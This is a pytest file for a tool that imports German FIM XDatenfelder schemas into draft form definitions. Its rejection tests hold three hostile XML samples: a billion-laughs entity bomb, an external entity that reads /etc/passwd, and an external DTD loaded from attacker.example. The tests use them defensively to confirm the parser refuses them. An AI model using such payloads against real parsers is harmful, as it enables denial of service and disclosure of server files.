"""Import of FIM XDatenfelder 2.0/3.0 Stammdatenschemata into draft definitions."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from amtsweg.cli import main
from amtsweg.formdefs import service
from amtsweg.formdefs.engine import check_definition, compile_definition
from amtsweg.formdefs.xdf import ImportResult, XdfImportError, import_xdf, slugify

FILES = Path(__file__).parent / "xdf"
XDF2 = FILES / "hundesteuer-xdf2.xml"
XDF3 = FILES / "gewerbeanmeldung-xdf3.xml"
BLOCK2 = FILES / "anschrift-inland-xdf2.xml"
BLOCK3 = FILES / "anschrift-inland-xdf3.xml"
PARKING2 = FILES / "anwohnerparken-xdf2.xml"
PARKING3 = FILES / "anwohnerparken-xdf3.xml"
NS2 = "urn:xoev-de:fim:standard:xdatenfelder_2"


def imported(path: Path, **options: Any) -> ImportResult:
    result = import_xdf(path.read_bytes(), **options)
    assert check_definition(result.document) == []
    compile_definition(result.document)
    return result


def fields_of(document: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """Every field by id; fields of a repeating group as group.field."""
    found: dict[str, dict[str, Any]] = {}
    for step in document["steps"]:
        for field in step["fields"]:
            found[field["id"]] = field
            for inner in field.get("fields", []):
                found[f"{field['id']}.{inner['id']}"] = inner
    return found


def reported(lines: list[Any]) -> set[str]:
    return {line.element.split()[0] for line in lines if line.element}


def said(lines: list[Any]) -> str:
    """The report's lines as the command prints them."""
    return " | ".join(str(line) for line in lines)


def schema2(body: str, name: str = "Testschema") -> bytes:
    """A minimal XDatenfelder 2.0 message around ``body`` (struktur elements)."""
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<xdf:xdatenfelder.stammdatenschema.0102 xmlns:xdf="{NS2}">
  <xdf:stammdatenschema>
    <xdf:identifikation><xdf:id>S99000999</xdf:id><xdf:version>1.0</xdf:version></xdf:identifikation>
    <xdf:name>{name}</xdf:name>
    {body}
  </xdf:stammdatenschema>
</xdf:xdatenfelder.stammdatenschema.0102>""".encode()


def limits(text: str) -> str:
    return f"<xdf:praezisierung>{text}</xdf:praezisierung>"


def empty_root(name: str, namespace: str) -> bytes:
    return f"<a:{name} xmlns:a='urn:xoev-de:fim:standard:{namespace}'/>".encode()


def field2(feldart: str, datentyp: str, anzahl: str = "1:1", extra: str = "") -> str:
    return f"""<xdf:struktur><xdf:anzahl>{anzahl}</xdf:anzahl><xdf:enthaelt><xdf:datenfeld>
      <xdf:identifikation><xdf:id>F99000001</xdf:id><xdf:version>1.0</xdf:version></xdf:identifikation>
      <xdf:name>Angabe</xdf:name><xdf:bezeichnungEingabe>Eine Angabe</xdf:bezeichnungEingabe>
      <xdf:feldart><code>{feldart}</code></xdf:feldart>
      <xdf:datentyp><code>{datentyp}</code></xdf:datentyp>{extra}
    </xdf:datenfeld></xdf:enthaelt></xdf:struktur>"""


# --- the two sample files ------------------------------------------------------------


def test_xdf2_schema_becomes_a_valid_draft_with_steps_groups_and_limits() -> None:
    document = imported(XDF2).document
    assert document["slug"] == "anmeldung-hundesteuer"
    assert document["fim_id"] == "S99000123-1.2"
    assert document["title"] == {
        "de": "Anmeldung eines Hundes zur Hundesteuer",
        "en": "[untranslated] Anmeldung eines Hundes zur Hundesteuer",
    }
    assert document["trust_level"] == "basic"
    assert document["declaration"]["de"].startswith("[Platzhalter")
    assert [step["id"] for step in document["steps"]] == [
        "halterin_oder_halter",
        "hund",
        "steuerermaessigung",
        "weitere_angaben",
    ]
    fields = fields_of(document)
    assert fields["familienname"] | {"label": None} == {
        "id": "familienname",
        "type": "text",
        "label": None,
        "help": {
            "de": "Geben Sie Ihren Familiennamen so an, wie er im Ausweis steht.",
            "en": "Geben Sie Ihren Familiennamen so an, wie er im Ausweis steht.",
        },
        "required": True,
        "min_length": 1,
        "max_length": 120,
    }
    assert fields["anschrift_postleitzahl"]["pattern"] == "[0-9]{5}"
    assert fields["anschrift_titel"] == {
        "id": "anschrift_titel",
        "type": "info",
        "text": {"de": "Anschrift", "en": "Anschrift"},
    }
    assert "required" not in fields["telefonnummer"]
    dogs = fields["hund"]
    assert (dogs["type"], dogs["min_items"], dogs["max_items"]) == ("group", 1, 5)
    assert fields["hund.beginn_der_haltung"]["min"] == "2000-01-01"
    assert fields["hund.gefaehrlicher_hund"] == fields["hund.gefaehrlicher_hund"] | {
        "type": "yesno",
        "required": True,
    }
    assert fields["hund.rasse"]["type"] == "text"  # a code list that is not in the file
    assert fields["hund.tollwutimpfungen_impfdatum"]["type"] == "date"
    assert fields["hinweis_ermaessigung"]["type"] == "info"
    assert fields["jahreseinkommen"] | {"label": None} == {
        "id": "jahreseinkommen",
        "type": "number",
        "label": None,
        "unit": "EUR",
        "min": 0,
        "max": 1000000,
    }
    assert (fields["personen_im_haushalt"]["type"], fields["personen_im_haushalt"]["max"]) == (
        "integer",
        20,
    )
    assert fields["gewicht"]["min"] == 0.5
    assert fields["nachweis"]["max_files"] == 3
    assert fields["bemerkungen"]["type"] == "textarea"
    assert "bearbeitungskennzeichen" not in fields
    assert "fachverfahrensdaten" not in fields


def test_xdf3_schema_becomes_a_valid_draft_with_inline_values() -> None:
    result = imported(XDF3)
    document = result.document
    assert document["slug"] == "gewerbeanmeldung-nach-14-gewo"
    assert document["fim_id"] == "S99000000200-1.0.0"
    assert document["title"]["de"] == "Gewerbeanmeldung"
    assert [step["id"] for step in document["steps"]] == [
        "betriebsinhaber",
        "betrieb",
        "gesellschafter",
        "anlagen",
    ]
    fields = fields_of(document)
    assert [option["value"] for option in fields["rechtsform"]["options"]] == [
        "001",
        "e_K_",
        "003",
        "004",
    ]
    assert fields["rechtsform"]["options"][2]["label"]["de"] == (
        "Gesellschaft bürgerlichen Rechts (GbR)"
    )
    assert fields["geburtsdatum"]["min"] == "1900-01-01"
    assert fields["wohnanschrift_ort"]["max_length"] == 50
    assert "pattern" not in fields["wohnanschrift_ort"]  # XSD's \p{IsBasicLatin}
    assert fields["registernummer"]["pattern"] == "(HRA|HRB|GnR|PR|VR) ?[0-9]{1,6}"
    assert fields["taetigkeit"] | {"label": None, "help": None} == {
        "id": "taetigkeit",
        "type": "textarea",
        "label": None,
        "help": None,
        "required": True,
        "min_length": 10,
        "max_length": 500,
    }
    assert (fields["vollzeitbeschaeftigte"]["min"], fields["vollzeitbeschaeftigte"]["max"]) == (
        0,
        100000,
    )
    assert fields["stammkapital"]["unit"] == "EUR"
    assert fields["oeffnungszeit_ab"]["pattern"] == "([01][0-9]|2[0-3]):[0-5][0-9]"
    assert fields["betriebsnummer"]["text"]["de"] == (
        "Betriebsnummer: wird von der Gewerbebehörde vergeben"
    )
    partners = fields["gesellschafter"]
    assert (partners["min_items"], "max_items" in partners) == (0, False)
    assert [inner["id"] for inner in partners["fields"]] == [
        "name",
        "anteil",
        "vertretungsberechtigte_titel",
        "vertretungsberechtigte_name",
    ]
    permit = fields["erlaubnis"]
    assert (permit["accept"], permit["max_files"], "required" in permit) == (
        ["application/pdf"],
        2,
        False,  # the group Anlagen is optional
    )


def test_the_report_names_unsupported_constructs_and_keeps_the_rules() -> None:
    report2 = imported(XDF2).report
    assert reported(report2.unsupported) == {
        "F99001201",  # select on a code list that is not in the file
        "F99001302",  # the same
        "G99000104",  # repeating group inside a repeating group
        "F99001308",  # hidden
        "F99001402",  # datentyp obj
    }
    nested = next(line for line in report2.unsupported if line.element.startswith("G99000104"))
    assert nested.path.endswith("/struktur[2]/enthaelt/datenfeldgruppe/struktur[7]/enthaelt/"
                                "datenfeldgruppe")  # fmt: skip
    assert "groups do not nest" in nested.message
    assert "urn:de:musterland:codeliste:hunderassen_2023-01-01" in str(report2.unsupported[0])
    rules = {line.element: line.message for line in report2.rules}
    assert set(rules) == {"R99000501 1.0", "R99000502 1.0"}
    assert "muss mindestens ein F99001306" in rules["R99000501 1.0"]
    assert "[script: if (F99001301 === true" in rules["R99000501 1.0"]
    assert "F99001101" in reported(report2.imported)

    report3 = imported(XDF3).report
    assert reported(report3.unsupported) == {
        "F99000001004",  # code list reference
        "F99000000247",  # XSD-only pattern
        "F99000002104",  # time as text
        "F99000002109",  # locked as info
        "G99000003100",  # repeating group inside a repeating group
        "F99000004003",  # obj
    }
    assert {"F99000001002", "F99000002101", "G99000004000"} <= reported(report3.warnings)
    assert "R99000000300" in reported(report3.rules)
    text = "\n".join(report3.lines())
    assert "Unsupported (not imported or imported in a simpler form): 6" in text


def test_slug_and_english_title_can_be_given() -> None:
    document = imported(XDF2, slug="hundesteuer", title_en="Dog tax registration").document
    assert (document["slug"], document["title"]["en"]) == ("hundesteuer", "Dog tax registration")
    with pytest.raises(XdfImportError, match="not a valid slug"):
        import_xdf(XDF2.read_bytes(), slug="Hunde Steuer")


def test_slugify_transliterates_german() -> None:
    assert slugify("Anmeldung Straßensondernutzung (§ 18 StrWG)") == (
        "anmeldung-strassensondernutzung-18-strwg"
    )


# --- smaller constructs -------------------------------------------------------------


def test_odd_cardinality_and_limits_are_reported_and_the_draft_stays_valid() -> None:
    body = (
        field2("input", "text", anzahl="eins", extra=limits("{kaputt"))
        + field2("input", "num_int", extra=limits('{"minValue":"9","maxValue":"1"}'))
        + field2("input", "date", extra=limits('{"minValue":"heute"}'))
        + field2("input", "bool", extra=limits('{"maxLength":"3"}'))
        + field2("input", "text", anzahl="0:3")
    )
    result = import_xdf(schema2(body))
    assert check_definition(result.document) == []
    messages = " | ".join(line.message for line in result.report.warnings)
    assert "anzahl 'eins' not understood" in messages
    assert "praezisierung '{kaputt' ignored" in messages
    assert "minValue is greater than maxValue" in messages
    assert "'heute' is not an ISO date" in messages
    assert "maxLength='3' has no meaning here" in messages
    assert "up to 3 times" in said(result.report.unsupported)
    fields = result.document["steps"][0]["fields"]
    assert [field["id"] for field in fields] == ["angabe", *(f"angabe_{n}" for n in range(2, 6))]
    assert "required" not in fields[0]


def test_a_select_of_a_boolean_and_a_label_without_text() -> None:
    body = field2("select", "bool") + field2("label", "text")
    fields = import_xdf(schema2(body)).document["steps"][0]["fields"]
    assert [(field["type"], field.get("text")) for field in fields] == [
        ("yesno", None),
        ("info", {"de": "Eine Angabe", "en": "Eine Angabe"}),
    ]


# --- files that cannot be imported --------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xdf:xdatenfelder.stammdatenschema.0102 xmlns:xdf="urn:xoev-de:fim:standard:xdatenfelder_2">
  <xdf:stammdatenschema><xdf:name>&lol4;</xdf:name></xdf:stammdatenschema>
</xdf:xdatenfelder.stammdatenschema.0102>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xdf:xdatenfelder.stammdatenschema.0102 xmlns:xdf="urn:xoev-de:fim:standard:xdatenfelder_2">
  <xdf:stammdatenschema><xdf:name>&secret;</xdf:name></xdf:stammdatenschema>
</xdf:xdatenfelder.stammdatenschema.0102>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd">
<x/>"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "The file is empty"),
        (b"  \n\t ", "The file is empty"),
        (b"<xdf:x xmlns:xdf='urn:a'><unclosed></xdf:x>", "not well-formed XML"),
        (b"\xff\xfe\x00garbage", "not well-formed XML"),
        (b"<html><body>Hallo</body></html>", "not an XDatenfelder 2.0 or 3.0 file"),
        (
            empty_root("xdatenfelder.stammdatenschema.0102", "xdatenfelder_9"),
            "not an XDatenfelder 2.0 or 3.0 file",
        ),
        (
            empty_root("xdatenfelder.dokumentsteckbrief.0101", "xdatenfelder_3.0.0"),
            "this file is a xdatenfelder.dokumentsteckbrief.0101 message",
        ),
        (
            empty_root("xdatenfelder.datenfeldgruppe.0103", "xdatenfelder_3.0.0"),
            "no <datenfeldgruppe> with a <struktur>",
        ),
        (
            empty_root("xdatenfelder.stammdatenschema.0102", "xdatenfelder_2"),
            "no <stammdatenschema>",
        ),
        (schema2(""), "no field that can be imported"),
        (schema2(field2("hidden", "text")), "no field that can be imported"),
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (EXTERNAL_DTD, "DTD"),
    ],
)
def test_files_that_cannot_be_imported_give_a_clear_error(data: bytes, message: str) -> None:
    with pytest.raises(XdfImportError, match=message.replace("(", r"\(")) as raised:
        import_xdf(data)
    assert "lollol" not in str(raised.value)
    assert "root:" not in str(raised.value)


# --- the command --------------------------------------------------------------------


@pytest.fixture
def formdefs(app):
    """Runs ``amtsweg formdefs ARGS…`` in the test app."""
    runner = app.test_cli_runner()
    return lambda *args: runner.invoke(main, ["formdefs", *args])


@pytest.fixture
def cli(formdefs):
    return lambda *args: formdefs("import-xdf", *args)


@pytest.mark.sqlite
def test_the_command_creates_a_draft_definition(cli) -> None:
    result = cli(str(XDF2))
    assert result.exit_code == 0, result.output
    assert "Rules (kept as text; translate them into conditions by hand): 2" in result.output
    assert (
        "Stammdatenschema imported: created anmeldung-hundesteuer, version 1 as a draft."
        in result.output
    )
    definition = service.get_definition("anmeldung-hundesteuer")
    draft = service.draft_version(definition)
    assert draft is not None
    assert draft.document["fim_id"] == "S99000123-1.2"
    again = cli(str(XDF2))
    assert again.exit_code == 1
    assert "gibt es bereits" in again.output


def test_the_command_dry_run_saves_nothing(cli) -> None:
    result = cli(str(XDF3), "--slug", "gewerbe-entwurf", "--dry-run")
    assert result.exit_code == 0, result.output
    assert '"slug": "gewerbe-entwurf"' in result.output
    assert service.find_definition("gewerbe-entwurf") is None


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty."),
        (b"<not-closed>", "not well-formed XML"),
        (b"<html><body>Hallo</body></html>", "not an XDatenfelder 2.0 or 3.0 file"),
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (
            empty_root("xdatenfelder.datenfeldgruppe.0103", "xdatenfelder_2"),
            "no <datenfeldgruppe> with a <struktur>",
        ),
    ],
)
def test_the_command_refuses_bad_files_without_a_traceback(
    cli, tmp_path: Path, content: bytes, message: str
) -> None:
    path = tmp_path / "schema.xml"
    path.write_bytes(content)
    result = cli(str(path))
    assert result.exit_code == 1
    assert f"Error: {path}: " in result.output
    assert message in result.output
    assert "Traceback" not in result.output
    assert isinstance(result.exception, SystemExit)


def test_the_command_names_a_missing_file(cli, tmp_path: Path) -> None:
    result = cli(str(tmp_path / "missing.xml"))
    assert result.exit_code == 1
    assert "Cannot read" in result.output


# --- building blocks (Datenfeldgruppen) -----------------------------------------------

ADDRESS_FIELDS = ["strasse", "hausnummer", "postleitzahl", "ort"]


@pytest.mark.parametrize(
    ("path", "fim_id", "version", "name"),
    [
        (BLOCK2, "G99000086", "1.2", "Anschrift Inland"),
        (BLOCK3, "G99000000086", "1.2.0", "Anschrift Inland Straßenanschrift"),
    ],
)
def test_a_datenfeldgruppe_becomes_a_building_block_a_definition_can_use(
    formdefs, path: Path, fim_id: str, version: str, name: str
) -> None:
    result = formdefs("import-xdf", str(path))
    assert result.exit_code == 0, result.output
    assert f"Datenfeldgruppe imported: building block {fim_id} {version} ({name}) stored." in (
        result.output
    )
    assert service.find_definition(slugify(name)) is None  # a block, not a form

    listing = formdefs("blocks")
    assert listing.exit_code == 0, listing.output
    assert f"{fim_id}\t{version}\t{name}\t" in listing.output
    assert "4 field(s)" in listing.output

    group = service.find_building_block(fim_id, version).group
    assert group["type"] == "group"
    assert [field["id"] for field in group["fields"]] == ADDRESS_FIELDS
    assert [field.get("required", False) for field in group["fields"]] == [
        True,
        False,  # Hausnummer is 0:1
        True,
        True,
    ]
    assert group["fields"][2]["max_length"] == 5
    document = imported(XDF2).document
    document["steps"].append({"id": "anschrift", "title": group["label"], "fields": [group]})
    assert check_definition(document) == []


def test_importing_the_same_block_again_changes_nothing(formdefs) -> None:
    assert formdefs("import-xdf", str(BLOCK2)).exit_code == 0
    again = formdefs("import-xdf", str(BLOCK2))
    assert again.exit_code == 0, again.output
    assert "building block G99000086 1.2 (Anschrift Inland) unchanged." in again.output
    assert formdefs("blocks").output.count("G99000086") == 1


def test_a_block_dry_run_saves_nothing(formdefs) -> None:
    result = formdefs("import-xdf", str(BLOCK2), "--dry-run")
    assert result.exit_code == 0, result.output
    assert '"id": "postleitzahl"' in result.output
    assert service.find_building_block("G99000086") is None
    assert formdefs("blocks").output == "No building blocks imported yet.\n"


@pytest.mark.parametrize(
    ("block", "schema", "slug", "steps"),
    [
        (
            BLOCK2,
            PARKING2,
            "bewohnerparkausweis",
            {
                "antragstellende_person": [
                    "familienname",
                    "anschrift_in_deutschland_titel",
                    *(f"anschrift_in_deutschland_{name}" for name in ADDRESS_FIELDS),
                ],
                "weitere_angaben": ["kennzeichen"],
            },
        ),
        (
            BLOCK3,
            PARKING3,
            "bewohnerparkausweis",
            {
                "weitere_angaben": ["kennzeichen"],
                "anschrift_inland_strassenanschrift": ADDRESS_FIELDS,
            },
        ),
    ],
)
def test_a_schema_that_names_a_stored_block_gets_the_group_in_place(
    formdefs, block: Path, schema: Path, slug: str, steps: dict[str, list[str]]
) -> None:
    assert formdefs("import-xdf", str(block)).exit_code == 0
    result = formdefs("import-xdf", str(schema))
    assert result.exit_code == 0, result.output
    assert "Datenfeldgruppe taken from the stored building block" in result.output
    assert f"Stammdatenschema imported: created {slug}, version 1 as a draft." in result.output
    document = service.draft_version(service.get_definition(slug)).document
    assert {
        step["id"]: [field["id"] for field in step["fields"]] for step in document["steps"]
    } == (steps)
    fields = fields_of(document)
    postcode = next(fields[name] for name in fields if name.endswith("postleitzahl"))
    assert (postcode["required"], postcode["max_length"]) == (True, 5)


def test_a_group_neither_in_the_file_nor_stored_is_reported(formdefs) -> None:
    result = formdefs("import-xdf", str(PARKING2), "--dry-run")
    assert result.exit_code == 0, result.output
    assert "Unsupported (not imported or imported in a simpler form): 2" in result.output
    for missing in ("G99000086 1.2", "G99000999 1.0"):
        assert (
            f"{missing} at /xdatenfelder.stammdatenschema.0102/stammdatenschema/struktur["
            in result.output
        )
    assert "neither contained in this file nor a stored building block" in result.output
    assert "anschrift_in_deutschland_strasse" not in result.output
    assert "Traceback" not in result.output


def test_a_reference_to_a_group_elsewhere_in_the_file_takes_that_group() -> None:
    group = """<xdf:datenfeldgruppe>
      <xdf:identifikation><xdf:id>G99000001</xdf:id><xdf:version>1.0</xdf:version></xdf:identifikation>
      <xdf:name>Person</xdf:name>{body}
    </xdf:datenfeldgruppe>"""
    full = group.format(body=field2("input", "text"))
    body = "".join(
        f"<xdf:struktur><xdf:anzahl>1:1</xdf:anzahl><xdf:enthaelt>{element}</xdf:enthaelt>"
        "</xdf:struktur>"
        for element in (full, group.format(body=""))
    )
    result = import_xdf(schema2(body))
    assert [step["id"] for step in result.document["steps"]] == ["person", "person_2"]
    assert "taken from elsewhere in this file" in said(result.report.imported)
    assert result.report.unsupported == []


def test_a_block_that_contains_itself_is_reported_not_followed_forever() -> None:
    data = (
        BLOCK2.read_bytes()
        .decode()
        .replace(
            "<xdf:datenfeld>",
            "<xdf:datenfeldgruppe><xdf:identifikation><xdf:id>G99000086</xdf:id>"
            "<xdf:version>1.2</xdf:version></xdf:identifikation></xdf:datenfeldgruppe>"
            "</xdf:enthaelt></xdf:struktur><xdf:struktur><xdf:anzahl>1:1</xdf:anzahl>"
            "<xdf:enthaelt><xdf:datenfeld>",
            1,
        )
        .encode()
    )
    block = import_xdf(data)
    assert [field["id"] for field in block.group["fields"]] == ADDRESS_FIELDS
    assert "contains itself" in said(block.report.unsupported)
